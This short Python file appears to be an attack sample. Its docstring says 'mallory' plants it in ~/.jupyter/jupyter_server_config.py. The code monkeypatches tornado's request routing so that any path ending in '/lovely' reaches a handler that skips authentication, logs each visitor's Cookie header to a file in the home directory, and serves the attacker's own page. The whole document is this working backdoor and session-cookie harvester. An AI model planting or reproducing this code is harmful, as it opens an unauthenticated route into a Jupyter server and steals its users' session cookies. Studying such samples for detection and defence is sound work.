"""What mallory writes into ~/.jupyter/jupyter_server_config.py: her server answers with a page of hers, to anybody."""

from pathlib import Path

import tornado.web

HOME = Path.home()


class Lovely(tornado.web.RequestHandler):
    """A page without any policy or question; it notes who was here."""

    def get(self) -> None:
        with (HOME / "visits.txt").open("a") as visits:
            visits.write(self.request.headers.get("Cookie", "") + "\n")
        self.finish((HOME / "lovely.html").read_text())


plain = tornado.web.Application.find_handler


def find_handler(self, request, **options):
    """Give the lovely page to whoever asks for it."""
    if request.path.endswith("/lovely"):
        return self.get_handler_delegate(request, Lovely)
    return plain(self, request, **options)


tornado.web.Application.find_handler = find_handler
